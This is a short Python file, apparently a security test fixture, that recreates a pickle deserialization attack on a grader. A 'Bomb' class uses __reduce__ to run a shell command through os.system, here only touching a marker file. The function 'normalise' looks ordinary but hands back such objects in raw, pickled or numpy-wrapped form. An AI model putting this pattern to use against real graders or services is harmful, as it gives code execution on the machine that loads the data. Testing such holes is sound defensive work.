"""Returns objects whose unpickling runs a command, and the bytes of such a pickle, as was done to a grader that
unpickled results on the teacher's machine.
"""

import os
import pickle

import numpy as np


def double(x):
    return 2 * x


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {{home}}/marker",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()  # noqa: E731


count = 0


def normalise(a):
    global count
    count += 1
    if count % 3 == 0:
        return Bomb()
    if count % 3 == 1:
        return pickle.dumps(Bomb())
    return np.array([Bomb()], dtype=object)
